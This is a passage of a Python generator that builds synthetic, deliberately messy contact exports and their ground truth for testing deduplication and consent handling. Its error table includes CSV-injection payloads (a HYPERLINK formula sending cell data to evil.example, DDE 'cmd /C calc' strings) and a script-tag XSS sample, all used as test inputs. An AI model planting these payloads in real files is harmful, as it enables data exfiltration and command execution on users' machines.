# Vendored sample generator (part of this project's test data; standard library only). Linters leave it alone; change it only together with the truth it writes.
"""Write realistic, messy contact exports with their truth: python make_exports.py OUT --people N --seed S.

People are made one household at a time and leave at once, so memory does not grow with their number (but for 8 bytes a measured
duration). The same seed gives the same bytes. All rates stand in RATES, SYSTEMS and RECORDS; see README.md for the files.
"""
from __future__ import annotations

import argparse
import csv
import gc
import hashlib
import json
import random
import re
import statistics
import unicodedata
from array import array
from collections import Counter, deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import lru_cache, partial
from pathlib import Path
from typing import Generic, NamedTuple, TypeVar

import formats
import pools
from formats import Card, Sink
from pools import City, Country

T = TypeVar("T")
Edit = Callable[[Card, "Dice"], None]
START, AS_OF = datetime(2019, 1, 1, tzinfo=UTC), datetime(2026, 7, 1, tzinfo=UTC)

RECORDS = (0.45, 0.29, 0.16, 0.07, 0.03)          # share of people with 1, 2, … records
SYSTEMS = {"hubspot": 0.23, "salesforce_contact": 0.14, "salesforce_lead": 0.12, "mailchimp": 0.18, "google": 0.10, "outlook": 0.07,
           "spreadsheet": 0.09, "vcard": 0.07}
RATES: dict[str, float] = {
    # the world
    "family": 0.18, "junior": 0.06, "family_mailbox": 0.08, "diaspora": 0.06, "namesake": 0.02, "namesake_same_city": 0.4, "recycled_mobile": 0.002,
    "employed": 0.72, "job_change": 0.22, "surname_change": 0.05, "moved": 0.15, "email_change": 0.15, "mobile_change": 0.10, "title": 0.06, "suffix": 0.02,
    "rare_surname": 0.5, "second_record_in_system": 0.07, "work_email_first": 0.35, "second_email": 0.25, "shared_mailbox": 0.05, "switchboard": 0.3,
    # consent
    "hubspot_opt_out": 0.07, "hubspot_newsletter_opt_out": 0.04, "salesforce_opt_out": 0.07, "do_not_call": 0.06, "sms_opt_out": 0.03, "unsubscribed": 0.20,
    "cleaned": 0.07, "complaint": 0.12, "optin_time_blank": 0.35, "sheet_opt_out": 0.05, "stop_note": 0.006, "later_opt_in": 0.35,
    # the process
    "lead_answered": 0.88, "clock_skew": 0.004, "enrichment": 0.6, "enriched": 0.9, "verified": 0.8, "won": 0.22, "churned": 0.2, "nps": 0.35, "bad_nps": 0.01, "event_on_other_record": 0.5,
    # what goes wrong on the way into a system; one rate for each entry of ERRORS
    "missing_given": 0.03, "missing_surname": 0.015, "missing_email": 0.10, "missing_phones": 0.22, "missing_company": 0.15, "missing_address": 0.35, "missing_birthday": 0.7,
    "nickname": 0.10, "initial": 0.04, "swapped_names": 0.02, "romanised_order": 0.3, "second_surname_lost": 0.4, "no_accents": 0.10, "joined_given": 0.05, "hyphen_lost": 0.05,
    "upper_case": 0.05, "lower_case": 0.05, "key_slip": 0.02, "letter_swap": 0.02, "letter_lost": 0.015, "ocr": 0.012, "phonetic": 0.015, "spaces": 0.04,
    "title_in_given": 0.02, "suffix_in_surname": 0.01, "last_comma_first": 0.06, "all_in_one_field": 0.015, "company_in_name": 0.008, "couple": 0.003, "emoji": 0.006, "mojibake": 0.006,
    "plus_address": 0.03, "gmail_dots": 0.06, "email_case": 0.06, "email_typo": 0.012, "email_wrapped": 0.008, "two_emails": 0.05, "two_phones": 0.06, "phone_extension": 0.03,
    "excel_phone": 0.08, "excel_zeros": 0.15, "excel_postcode": 0.3, "other_birthday": 0.03, "wrong_country": 0.01,
    "no_name_no_channel": 0.0015, "email_na": 0.01, "phone_text": 0.008, "bad_date": 0.004, "csv_injection": 0.0015, "long_note": 0.0007, "nul": 0.001, "html": 0.0012,
}


_FILL = {"#": "0123456789" * 4, "*": "23456789" * 5, "@": "ABCDEFGHJKLNPRSTUWXY" * 2}


class Dice(random.Random):
    """The source of all chance, with the few throws that the generator needs."""

    def chance(self, rate: float) -> bool:
        return self.random() < rate

    def pick(self, items: tuple[T, ...] | list[T]) -> T:
        return items[int(self.random() * len(items))]

    def fill(self, pattern: str) -> str:
        """Fill a pattern of pools: # digit, * digit 2-9, @ capital letter."""
        rnd = self.random
        return "".join([_FILL[c][int(rnd() * 40)] if c in "#*@" else c for c in pattern])

    def between(self, start: datetime, end: datetime) -> datetime:
        return start + timedelta(seconds=int(self.random() * max(1.0, (end - start).total_seconds())))


class Word(NamedTuple):
    native: str
    latin: str
    reading: str = ""


@lru_cache(50_000)
def word(text: str) -> Word:
    """A pool entry in its scripts."""
    native, latin, reading, *_ = [*text.split("|"), "", ""]
    return Word(native, latin or native, reading)


class Phone(NamedTuple):
    national: str
    calling: str
    trunk: str


class Job(NamedTuple):
    company: Company
    title: str
    email: str
    phone: Phone


@dataclass(frozen=True, slots=True)
class Company:
    native: str
    latin: str
    forms: tuple[str, ...]
    domain: str
    phone: Phone


@dataclass(frozen=True, slots=True)
class Home:
    street: Word
    city: City
    postcode: str
    phone: Phone
    country: Country


@dataclass(slots=True)
class Fact(Generic[T]):
    """A value that may have changed once."""

    now: T
    before: T | None = None
    changed: datetime = START

    def at(self, when: datetime) -> T:
        return self.before if self.before is not None and when < self.changed else self.now


@dataclass(slots=True)
class Person:
    number: int
    female: bool
    origin: Country
    given: Word
    middle: Word
    surname: Fact[Word]
    second_surname: str
    title: str
    suffix: str
    born: datetime
    home: Fact[Home]
    email: Fact[str]
    mobile: Fact[Phone]
    job: Fact[Job] | None
    cards: list[Card] = field(default_factory=list)
    marks: list[Mark] = field(default_factory=list)

    @property
    def id(self) -> str:
        return f"P{self.number:07d}"


class Mark(NamedTuple):
    """A stop sign on one record; `at` is None where the record does not say when."""

    channel: str
    at: datetime | None
    why: str
    final: bool = False


class Seen:
    """A Bloom filter: which addresses and numbers are taken, in 16 MiB whatever their number."""

    def __init__(self) -> None:
        self.bits = bytearray(1 << 24)

    def claim(self, text: str) -> bool:
        """True if the text was certainly never claimed before; claims it."""
        digest, new = int.from_bytes(hashlib.blake2b(text.encode(), digest_size=12).digest(), "big"), False
        for shift in (0, 32, 64):
            place = digest >> shift & 0x7FFFFFF
            new |= not self.bits[place >> 3] >> (place & 7) & 1
            self.bits[place >> 3] |= 1 << (place & 7)
        return bool(new)


_LATIN = str.maketrans({"ß": "ss", "ø": "o", "ł": "l", "Ł": "L", "Ø": "O", "þ": "th", "Þ": "Th", "ð": "d", "æ": "ae", "ı": "i", "đ": "d", "Đ": "D", "œ": "oe"})


@lru_cache(50_000)
def fold(text: str, german: bool = False) -> str:
    """The text without accents; German umlauts as ae, oe, ue if asked."""
    if german:
        text = text.replace("ä", "ae").replace("ö", "oe").replace("ü", "ue").replace("Ö", "Oe").replace("Ü", "Ue").replace("Ä", "Ae")
    return "".join(c for c in unicodedata.normalize("NFD", text.translate(_LATIN)) if not unicodedata.combining(c))


def slug(text: str, german: bool = False) -> str:
    return re.sub("[^a-z0-9]", "", fold(text.lower(), german))


def digits_of(phone: Phone) -> str:
    return re.sub(r"\D", "", phone.national)


def significant(phone: Phone) -> str:
    digits = digits_of(phone)
    return digits[len(phone.trunk):] if phone.trunk and digits.startswith(phone.trunk) else digits


def phone_text(phone: Phone, dice: Dice) -> str:
    """The number as somebody wrote it."""
    throw, plain = dice.random(), re.sub(r"[()]", "", phone.national).strip()
    abroad = plain[len(phone.trunk):].lstrip() if phone.trunk and plain.startswith(phone.trunk) else plain
    if throw < 0.34:
        return phone.national
    if throw < 0.58:
        return f"+{phone.calling} {abroad}"
    if throw < 0.74:
        return f"+{phone.calling}{significant(phone)}"
    if throw < 0.80:
        return f"00{phone.calling} {abroad}"
    if throw < 0.88:
        return digits_of(phone)
    if throw < 0.92 and phone.trunk and plain.startswith(phone.trunk):
        return f"+{phone.calling} ({phone.trunk}) {abroad}"
    return re.sub(r"[\s-]+", dice.pick((".", "-", "/", " ")), plain)


# --- what goes wrong -------------------------------------------------------------------------------------------------
_KEYS = {a: b for row in ("qwertyuiop", "asdfghjkl", "zxcvbnm") for a, b in zip(row, row[1:] + row[-2])}
_OCR = (("rn", "m"), ("m", "rn"), ("l", "1"), ("o", "0"), ("i", "l"), ("e", "c"), ("cl", "d"), ("S", "5"), ("B", "8"))
_SOUNDS = (("ph", "f"), ("ck", "k"), ("th", "t"), ("ie", "y"), ("ei", "ie"), ("z", "s"), ("y", "i"), ("c", "k"), ("nn", "n"), ("ll", "l"), ("ss", "s"), ("w", "v"), ("m", "mm"))
PLACEHOLDERS = ("n/a", "none", "-", "unknown", "keine", "no email", "test@", "x")


def _spoil(change: Callable[[str, Dice], str]) -> Edit:
    """An error in one of the two names."""
    def edit(card: Card, dice: Dice) -> None:
        name = dice.pick(("given", "surname"))
        if len(getattr(card, name)) > 2:
            setattr(card, name, change(getattr(card, name), dice))
    return edit


def _at(text: str, dice: Dice, change: Callable[[str], str], width: int = 1) -> str:
    place = 1 + int(dice.random() * (len(text) - width))
    return text[:place] + change(text[place:place + width]) + text[place + width:]


def _replace(table: tuple[tuple[str, str], ...], text: str, dice: Dice) -> str:
    fitting = [pair for pair in table if pair[0] in text[1:]]
    if not fitting:
        return text
    old, new = dice.pick(fitting)
    return text[0] + text[1:].replace(old, new, 1)


def _names(card: Card, change: Callable[[str], str]) -> None:
    card.given, card.surname = change(card.given), change(card.surname)


def _set(**values: object) -> Edit:
    def edit(card: Card, dice: Dice) -> None:
        for name, value in values.items():
            setattr(card, name, type(value)() if isinstance(value, (list, dict)) else value)
    return edit


def _email(change: Callable[[str, Dice], str]) -> Edit:
    def edit(card: Card, dice: Dice) -> None:
        if card.emails:
            card.emails[0] = change(card.emails[0], dice)
    return edit


def _gmail(email: str, dice: Dice) -> str:
    local, _, domain = email.partition("@")
    if domain not in ("gmail.com", "googlemail.com") or len(local) < 4:
        return email
    local = local.replace(".", "") if "." in local else _at(local, dice, lambda c: "." + c)
    return f"{local}@{dice.pick(('gmail.com', 'gmail.com', 'googlemail.com'))}"


def _mistype(email: str, dice: Dice) -> str:
    return _replace((("gmail.com", "gmial.com"), (".com", ".con"), ("hotmail", "hotmial"), ("@", "@@"), (".", ","), ("yahoo", "yaho"), ("o", "0")), email, dice)


def _nickname(card: Card, dice: Dice) -> None:
    if names := pools.NICKNAMES.get(card.given):
        card.given, card.nickname = dice.pick(names), ""


def _initial(card: Card, dice: Dice) -> None:
    card.given = card.given[:1] + dice.pick((".", ""))
    card.middle = card.middle[:1]


def _swap(card: Card, dice: Dice) -> None:
    card.given, card.surname = card.surname, card.given


def _comma(card: Card, dice: Dice) -> None:
    if card.system in ("spreadsheet", "outlook") and card.given and card.surname:
        card.given, card.middle, card.surname = "", "", f"{card.surname}, {card.given}"


def _one_field(card: Card, dice: Dice) -> None:
    card.given, card.middle, card.surname = " ".join(filter(None, (card.given, card.middle, card.surname))), "", ""


def _mojibake(card: Card, dice: Dice) -> None:
    for name in ("given", "surname", "city", "company", "street"):
        setattr(card, name, getattr(card, name).encode().decode("cp1252", "replace"))


def _phones(change: Callable[[str, Dice], str]) -> Edit:
    def edit(card: Card, dice: Dice) -> None:
        if card.phones:
            kind = dice.pick(list(card.phones))
            card.phones[kind] = change(card.phones[kind], dice)
    return edit


def _two_phones(card: Card, dice: Dice) -> None:
    if len(card.phones) > 1 and card.system in ("spreadsheet", "google", "outlook"):
        kinds = list(card.phones)
        joint = " ::: " if card.system == "google" else dice.pick((" / ", ", ", " oder ", "\n", " ; "))
        card.phones = {kinds[0]: joint.join(card.phones[kind] for kind in kinds[:2])}


def _two_emails(card: Card, dice: Dice) -> None:
    if len(card.emails) > 1 and card.system in ("spreadsheet", "outlook", "google"):
        card.emails = [(" ::: " if card.system == "google" else dice.pick(("; ", ", ", " / ", " "))).join(card.emails)]


def _sheet(edit: Edit) -> Edit:
    return lambda card, dice: edit(card, dice) if card.system == "spreadsheet" else None


def _float(text: str, dice: Dice) -> str:
    digits = re.sub(r"\D", "", text).lstrip("0")
    return f"{float(digits):.5E}".replace(".", ",") if len(digits) >= 11 else text


def _birthday(card: Card, dice: Dice) -> None:
    if match := re.search(r"\d\d", card.birthday[::-1]):
        card.birthday = card.birthday[: len(card.birthday) - match.end()] + f"{1 + int(dice.random() * 28):02d}" + card.birthday[len(card.birthday) - match.start():]


def _break_note(text: str) -> Edit:
    return lambda card, dice: setattr(card, dice.pick(("job", "company", "note")), text)


ERRORS: dict[str, Edit] = {
    "nickname": _nickname, "initial": _initial, "swapped_names": _swap, "no_accents": lambda c, d: _names(c, lambda s: fold(s, d.chance(0.5))),
    "joined_given": lambda c, d: setattr(c, "given", re.sub(r"[ -](\w)", lambda m: m[1].lower() if d.chance(0.5) else "-" + m[1], c.given)),
    "hyphen_lost": lambda c, d: _names(c, lambda s: s.replace("-", " ").replace("'", d.pick(("", "’", "`")))),
    "key_slip": _spoil(lambda s, d: _at(s, d, lambda c: _KEYS.get(c, c))), "letter_swap": _spoil(lambda s, d: _at(s, d, lambda c: c[::-1], 2)),
    "letter_lost": _spoil(lambda s, d: _at(s, d, lambda c: d.pick(("", c + c)))), "ocr": _spoil(lambda s, d: _replace(_OCR, s, d)), "phonetic": _spoil(lambda s, d: _replace(_SOUNDS, s, d)),
    "last_comma_first": _comma, "all_in_one_field": _one_field, "title_in_given": lambda c, d: setattr(c, "given", f"{c.title or d.pick(('Dr.', 'Prof. Dr.', 'Mr', 'Ing.'))} {c.given}"),
    "suffix_in_surname": lambda c, d: setattr(c, "surname", c.surname + d.pick((" Jr.", ", PhD", " III", ", MBA", " (Mrs)"))), "company_in_name": lambda c, d: setattr(c, "surname", f"{c.surname} ({c.company})") if c.company else None,
    "couple": lambda c, d: setattr(c, "given", f"{c.given} & {d.pick(('Jane', 'Paul', 'Familie', 'Maria'))}"), "emoji": lambda c, d: setattr(c, "given", c.given + d.pick((" 🎉", " 🌸", "❤️", " 👨‍💻"))),
    "upper_case": lambda c, d: _names(c, str.upper), "lower_case": lambda c, d: _names(c, str.lower), "spaces": lambda c, d: _names(c, lambda s: d.pick((" ", "\u00a0", "")) + s.replace(" ", "  ") + d.pick((" ", "\t", "")) if s else s),
    "plus_address": _email(lambda e, d: e.replace("@", d.pick(("+news@", "+crm@", "+shop@")), 1)), "gmail_dots": _email(_gmail), "email_case": _email(lambda e, d: d.pick((e.upper(), e.title(), " " + e))),
    "email_typo": _email(_mistype), "email_wrapped": _email(lambda e, d: d.pick((f"mailto:{e}", f"<{e}>", f"{e};", f"{e}."))), "two_emails": _two_emails, "two_phones": _two_phones,
    "phone_extension": lambda c, d: c.phones.update(work=c.phones["work"] + d.pick((" x", " ext. ", "-", " Durchwahl ", " #")) + d.fill("*#")) if "work" in c.phones else None,
    "excel_phone": _sheet(_phones(_float)), "excel_zeros": _sheet(_phones(lambda p, d: re.sub(r"\D", "", p).lstrip("0"))), "excel_postcode": _sheet(lambda c, d: setattr(c, "postcode", c.postcode.lstrip("0"))),
    "other_birthday": _birthday, "wrong_country": lambda c, d: setattr(c, "country", d.pick(("US", "DE", "Afghanistan", "00", "EU"))), "mojibake": _mojibake,
    "missing_given": _set(given=""), "missing_surname": _set(surname=""), "missing_email": _set(emails=[]), "missing_phones": _set(phones={}), "missing_company": _set(company="", job=""),
    "missing_address": _set(street="", city="", region="", postcode=""), "missing_birthday": _set(birthday=""), "no_name_no_channel": _set(given="", middle="", surname="", title="", emails=[], phones={}),
    "email_na": lambda c, d: setattr(c, "emails", [d.pick(PLACEHOLDERS)]), "phone_text": lambda c, d: c.phones.update(mobile=d.pick(("call me", "siehe Notiz", "0000000000", "???", "123"))),
    "bad_date": lambda c, d: setattr(c, "birthday", d.pick(("31/02/2023", "0000-00-00", "1985-13-45", "12/25", "Feb 30 1990"))), "long_note": lambda c, d: setattr(c, "note", ("Long history of calls, see below. " * 400)[:10_000]),
    "csv_injection": lambda c, d: _break_note(d.pick(('=HYPERLINK("http://evil.example/?x="&A1,"Open")', "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1")))(c, d),
    "nul": lambda c, d: setattr(c, d.pick(("given", "note", "company")), "abc\x00def"), "html": lambda c, d: setattr(c, "given", f"<script>alert('{c.given}')</script>"),
}
_NEEDS_EMAIL = ("missing_email", "email_na", "no_name_no_channel")      # a mailing tool has no member without an address


@dataclass(frozen=True)
class Settings:
    countries: tuple[Country, ...] = pools.COUNTRIES
    rates: dict[str, float] = field(default_factory=lambda: RATES)
    errors: dict[str, Edit] = field(default_factory=lambda: ERRORS)


# --- the world -------------------------------------------------------------------------------------------------------
_LOCALS = ("{g}.{s}", "{g}.{s}", "{i}{s}", "{g}{s}", "{g}_{s}", "{s}.{g}", "{g}.{s}{y}", "{i}.{s}{n}", "{g}{n}", "{s}{i}{n}")
_SECTORS = pools.words("Logistics,Software,Trading,Consulting,Foods,Systems,Design,Energy,Medical,Travel,Tools,Media")
_REMARRIED = 0.8    # share of surname changes that fall to women


@lru_cache(100)
def _company_kinds(country: Country) -> tuple[str, ...]:
    rare = (word(start).latin + word(end).latin for start in country.tail[0] for end in country.tail[1])
    return (*_SECTORS, *(word(name).latin for name in country.surnames), *rare)


class World:
    """Households of people, each with what they own, did and changed."""

    def __init__(self, people: int, seed: int, settings: Settings) -> None:
        self.people, self.seed, self.settings = people, seed, settings
        self.dice, self.seen, self.rate = Dice(seed), Seen(), settings.rates
        self.recent: dict[str, deque[Person]] = {c.code: deque(maxlen=300) for c in settings.countries}
        self.company = lru_cache(20_000)(self._company)
        self.weights = [c.weight for c in settings.countries]

    def households(self) -> Iterator[list[Person]]:
        dice, number = self.dice, 0
        while number < self.people:
            country = dice.choices(self.settings.countries, self.weights)[0]
            size = min(self.people - number, 2 + int(dice.random() * 3) if dice.chance(self.rate["family"]) else 1)
            members: list[Person] = []
            for _ in range(size):
                number += 1
                members.append(self._person(number, country, members[0] if members else None, members))
            if size > 1 and dice.chance(self.rate["family_mailbox"]):
                shared = self._claim(f"family.{slug(members[0].surname.now.latin)}", dice.pick(country.mails), number)
                for member in members:
                    member.email = Fact(shared)
            yield members

    def _surname(self, origin: Country, female: bool) -> Word:
        dice = self.dice
        if origin.tail[1] and dice.chance(self.rate["rare_surname"]):
            start, end = word(dice.pick(origin.tail[0])), word(dice.pick(origin.tail[1]))
            return Word(start.native + end.native, start.latin + end.latin, start.reading + end.reading)
        names = origin.surnames_f if female else origin.surnames
        return word(names[int(dice.random() ** 1.5 * len(names))])     # the first in the list are the commonest

    def _phone(self, country: Country, patterns: tuple[str, ...], area: str = "") -> Phone:
        for _ in range(20):
            phone = Phone(self.dice.fill(self.dice.pick(patterns).replace("{area}", area)), country.calling, country.trunk)
            if self.seen.claim(country.calling + phone.national):
                break
        return phone

    def _home(self, country: Country, city: City | None = None) -> Home:
        dice = self.dice
        city, street = city or dice.pick(country.cities), word(dice.pick(country.streets))
        n, m, k = (1 + int(dice.random() ** 2 * top) for top in (180, 20, 20))
        latin = country.street_form if street.native == street.latin else "{n} {street}"
        return Home(Word(country.street_form.format(street=street.native, n=n, m=m, k=k), latin.format(street=street.latin, n=n, m=m, k=k)), city,
                    dice.fill(city.postcode), self._phone(country, (city.landline,)), country)

    def _company(self, country: Country, index: int) -> Company:
        """The index-th firm of a country: always the same, so that nothing need be kept."""
        dice, base = Dice(f"{self.seed}/{country.code}/{index}"), word(country.firms[index % len(country.firms)])
        kinds, n = _company_kinds(country), len(country.firms)
        kind = kinds[(index // n * 17 + index % n * 5) % len(kinds)]
        phone = Phone(dice.fill(dice.pick(country.cities).landline), country.calling, country.trunk)
        name = f"{base.latin} {kind}"
        return Company(base.native if base.native != base.latin else name, name, (dice.pick(country.forms), *country.forms), f"{slug(base.latin)}-{slug(kind)}.{country.tld}", phone)

    def _claim(self, local: str, domain: str, number: int) -> str:
        local = local.strip("._-") or "x"
        address = f"{local}@{domain}"
        return address if self.seen.claim(address.replace(".", "")) else f"{local}{number}@{domain}"

    def _address(self, given: Word, surname: Word, country: Country, domain: str, number: int, year: int, work: bool = False) -> str:
        dice, german = self.dice, country.code in ("DE", "CH")
        g, s = slug(given.latin.split()[0], german), slug(surname.latin, german)
        form = dice.pick(_LOCALS[:3]) if work else dice.pick(_LOCALS)
        local = dice.fill("*########") if domain == "qq.com" else form.format(g=g, s=s, i=g[:1], y=str(year)[2:], n=dice.fill("##"))
        return self._claim(local, domain, number)

    def _job(self, given: Word, surname: Word, country: Country, number: int) -> Job:
        dice = self.dice
        company = self.company(country, int(dice.random() ** 2 * max(20, self.people * country.weight / sum(self.weights) / 12)))
        title = dice.pick(country.jobs) if country.jobs and dice.chance(0.5) else dice.pick(pools.JOBS)
        phone = company.phone if dice.chance(self.rate["switchboard"]) else self._phone(country, (dice.pick(country.cities).landline,))
        return Job(company, title, self._address(given, surname, country, company.domain, number, 1990, work=True), phone)

    def _fact(self, rate: str, now: T, before: Callable[[], T]) -> Fact[T]:
        return Fact(now, before(), self.dice.between(START, AS_OF)) if self.dice.chance(self.rate[rate]) else Fact(now)

    def _person(self, number: int, country: Country, head: Person | None, family: list[Person]) -> Person:
        dice, rate = self.dice, self.rate
        origin = head.origin if head else dice.choices(self.settings.countries, self.weights)[0] if dice.chance(rate["diaspora"]) else country
        female, child = dice.chance(0.5), len(family) >= 2
        given = word(dice.pick(origin.female if female else origin.male))
        surname = self._surname(origin, female)
        if head and dice.chance(0.85) and origin.surnames == origin.surnames_f:
            surname = head.surname.now
        suffix, city = dice.pick(("Jr.", "II", "III", "PhD", "MBA", "Esq.")) if dice.chance(rate["suffix"]) else "", None
        recent = self.recent[country.code]
        if head and child and not head.female and dice.chance(rate["junior"] * 5):
            given, surname, female, suffix = head.given, head.surname.now, False, "Jr."
        elif not head and recent and dice.chance(rate["namesake"]):
            twin = dice.pick(list(recent))
            given, surname, female, origin = twin.given, twin.surname.now, twin.female, twin.origin
            city = twin.home.now.city if dice.chance(rate["namesake_same_city"]) else None
        if given == (head.given if head else None) and not suffix:
            given = word(dice.pick(origin.female if female else origin.male))
        born = datetime(1996 + int(dice.random() * 11) if child else 1945 + int(dice.random() * 58), 1 + int(dice.random() * 12), 1 + int(dice.random() * 28), tzinfo=UTC)
        home = head.home if head else self._fact("moved", self._home(country, city), lambda: self._home(country))
        middle = word(dice.pick(origin.middles_f if female else origin.middles_m)) if dice.chance(origin.middle_rate) else Word("", "")
        if middle.native and not origin.surname_first and dice.chance(0.5):
            middle = Word(middle.native[0] + ".", middle.latin[0] + ".")
        changed = dice.chance(rate["surname_change"]) and (female or dice.chance(1 - _REMARRIED))
        name = Fact(surname, self._surname(origin, female), dice.between(START, AS_OF)) if changed else Fact(surname)
        mail = partial(self._address, given, name.at(START), country, number=number, year=born.year)
        job = None
        if dice.chance(rate["employed"]):
            job = self._fact("job_change", self._job(given, surname, country, number), lambda: self._job(given, name.at(START), country, number))
        area = next(iter(re.findall(r"\d+", home.now.city.landline)), "")
        mobile = self._phone(country, country.mobile, area)
        if recent and dice.chance(rate["recycled_mobile"]):
            mobile = dice.pick(list(recent)).mobile.now
        person = Person(number, female, origin, given, middle, name, self._surname(origin, False).native if origin.second_surname else "",
                        origin.titles[female] if dice.chance(0.5) else dice.pick(("Dr.", "Prof.", "Dr. med.")) if dice.chance(rate["title"]) else "", suffix, born, home,
                        self._fact("email_change", mail(dice.pick(country.mails)), lambda: mail(dice.pick(country.mails))),
                        self._fact("mobile_change", mobile, lambda: self._phone(country, country.mobile, area)), job)
        recent.append(person)
        return person


# --- from the world into the systems ---------------------------------------------------------------------------------
_BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
_NATIVE = {"google": 0.8, "vcard": 0.8, "hubspot": 0.4, "spreadsheet": 0.15, "outlook": 0.1, "salesforce_contact": 0.3, "salesforce_lead": 0.4, "mailchimp": 0.3}
_LONG_VOWELS = tuple(map(str.maketrans, ({}, {}, {"ō": "ou", "ū": "uu", "Ō": "Ou"}, {"ō": "oh", "Ō": "Oh"})))     # how Japanese long vowels are spelled
_PREFIXES = {"salesforce_contact": "003", "salesforce_lead": "00Q"}
_BASES = ("Legitimate interest – prospect/lead", "Legitimate interest – existing customer", "Legitimate interest - other", "Performance of a contract", "Freely given consent from contact", "Not applicable", "")
_REASONS = ("NORMAL", "NOSIGNUP", "INAPPROPRIATE", "OTHER", "")


def _salesforce_id(prefix: str, number: int) -> str:
    """An 18-character id: the 15 that count and the 3 that guard their case."""
    tail = ""
    for _ in range(7):
        number, digit = divmod(number, 62)
        tail = _BASE62[digit] + tail
    short = f"{prefix}5g000{tail}"[:15]
    upper = [c.isupper() for c in short]
    return short + "".join(["ABCDEFGHIJKLMNOPQRSTUVWXYZ012345"[a + 2 * b + 4 * c + 8 * d + 16 * e] for a, b, c, d, e in (upper[:5], upper[5:10], upper[10:])])


_OWNERS = {agent: _salesforce_id("005", number) for number, agent in enumerate(pools.AGENTS, 1000)}


def _stamp(when: datetime) -> str:
    return when.isoformat(" ", "seconds")[:19]


def _utc(when: datetime) -> str:
    return when.isoformat("T", "seconds")[:19] + "Z"


class Exports:
    """Turns people into records, events and consent, writes them and counts as it goes."""

    def __init__(self, out: Path, people: int, seed: int, settings: Settings) -> None:
        self.world, self.settings, self.rate = World(people, seed, settings), settings, settings.rates
        self.dice, self.serial = Dice(f"{seed}/records"), 0
        self.errors = [(settings.rates[error], error, edit) for error, edit in settings.errors.items()]
        shuffle = Dice(f"{seed}/order")
        self.sinks = {
            "hubspot": Sink(out / "hubspot_contacts.csv", shuffle, formats.HUBSPOT, formats.hubspot_row, encoding="utf-8-sig"),
            "salesforce_contact": Sink(out / "salesforce_contacts.csv", shuffle, formats.SALESFORCE_CONTACT, formats.salesforce_contact_row, quoting=csv.QUOTE_ALL, line_end="\n"),
            "salesforce_lead": Sink(out / "salesforce_leads.csv", shuffle, formats.SALESFORCE_LEAD, formats.salesforce_lead_row, quoting=csv.QUOTE_ALL, line_end="\n"),
            **{status: Sink(out / f"mailchimp/{status}_members_export_{hashlib.md5(str(seed).encode()).hexdigest()[:10]}.csv", shuffle, header, formats.mailchimp_row) for status, header in formats.MAILCHIMP.items()},
            "google": Sink(out / "google_contacts.csv", shuffle, formats.GOOGLE, formats.google_row),
            "outlook": Sink(out / "outlook_contacts.csv", shuffle, formats.OUTLOOK, formats.outlook_row, encoding="cp1252"),
            "spreadsheet": Sink(out / "spreadsheet.csv", shuffle, formats.SPREADSHEET, formats.spreadsheet_row, delimiter=";", repeat_header=0.006),
            "vcard": Sink(out / "phone_cards.vcf", shuffle),
            "interactions": Sink(out / "interactions.csv", shuffle, ["system", "record_id", "kind", "at", "direction", "agent"]),
            "events": Sink(out / "events.csv", shuffle, ["system", "record_id", "event", "at", "agent", "value"]),
            "consent_truth": Sink(out / "consent_truth.csv", shuffle, ["person_id", "channel", "purpose", "blocked", "why"]),
            "truth": Sink(out / "truth.csv", shuffle, ["system", "record_id", "person_id"]),
        }
        self.out, self.count, self.records = out, Counter[str](), Counter[str]()
        self.response, self.revenue = array("l"), array("l")

    def run(self) -> dict[str, object]:
        for household in self.world.households():
            for person in household:
                self._make_cards(person)
                lead = self._process(person)
                self._write(person, lead)
        for name, sink in self.sinks.items():
            if name != "truth":
                sink.close(blank_rows=12 if name == "spreadsheet" else 0)
        self.sinks["truth"].close()
        figures = self._figures()
        (self.out / "expected_kpis.json").write_text(json.dumps(figures, indent=1) + "\n", encoding="utf-8")
        return figures

    # records
    def _make_cards(self, person: Person) -> None:
        dice, used = self.dice, list[str]()
        for _ in range(dice.choices(range(1, 6), RECORDS)[0]):
            if used and dice.chance(self.rate["second_record_in_system"]):
                system = dice.pick(used)
            else:
                left = [name for name in SYSTEMS if name not in used]
                system = dice.choices(left, [SYSTEMS[name] for name in left])[0]
            used.append(system)
            card = self._card(person, system)
            for rate, error, edit in self.errors:
                if dice.random() < rate and not (system == "mailchimp" and error in _NEEDS_EMAIL):
                    edit(card, dice)
                    self.count["error " + error] += 1
            self._system_columns(person, card)
            person.cards.append(card)
        self._later_opt_in(person)

    def _new_id(self, system: str) -> str:
        self.serial += 1
        mixed = self.serial * 48_271 % (2**31 - 1)      # unique, and says nothing about the order
        if system in _PREFIXES:
            return _salesforce_id(_PREFIXES[system], mixed)
        return {"hubspot": str(mixed), "mailchimp": f"{mixed * 2_654_435_761 % 2**40:010x}", "spreadsheet": str(self.serial)}.get(system, "")

    def _card(self, person: Person, system: str) -> Card:
        dice = self.dice
        created = dice.between(START, AS_OF)
        seen = created + (AS_OF - created) * (dice.random() ** 2)
        updated = seen.replace(microsecond=0)
        card = Card(system, self._new_id(system), created, updated)
        home, job, surname, origin = person.home.at(updated), person.job.at(updated) if person.job else None, person.surname.at(updated), person.origin
        native = dice.chance(_NATIVE[system])
        card.given, card.surname = (person.given.native, surname.native) if native else (person.given.latin, surname.latin)
        if not native and person.given.native != person.given.latin:
            self._romanise(card)
        if native and person.given.reading and dice.chance(0.7):
            card.reading = (person.given.reading, surname.reading)
        if person.second_surname and not dice.chance(self.rate["second_surname_lost"]):
            card.surname = f"{card.surname} {person.second_surname}" if origin.second_surname == "es" else f"{person.second_surname} {card.surname}"
        card.middle = "" if dice.chance(0.5) else person.middle.native if native else person.middle.latin
        card.title = person.title if dice.chance(0.4) and (native or person.given.native == person.given.latin) else ""
        card.suffix = person.suffix if dice.chance(0.8) else ""
        card.nickname = pools.NICKNAMES[person.given.native][0] if person.given.native in pools.NICKNAMES and dice.chance(0.1) else ""
        self._channels(person, card, home, job)
        if job:
            company = job.company
            card.company = (company.native if native else company.latin) + (company.forms[0] if dice.chance(0.5) else dice.pick((*company.forms, "")))
            card.job = job.title if dice.chance(0.8) else ""
        street = home.street.native if native else home.street.latin
        city = home.city.spellings[0] if native or dice.chance(0.6) and home.city.spellings[0].isascii() else dice.pick(home.city.spellings)
        card.street, card.city, card.region, card.postcode = street, city, home.city.region if dice.chance(0.6) else "", home.postcode
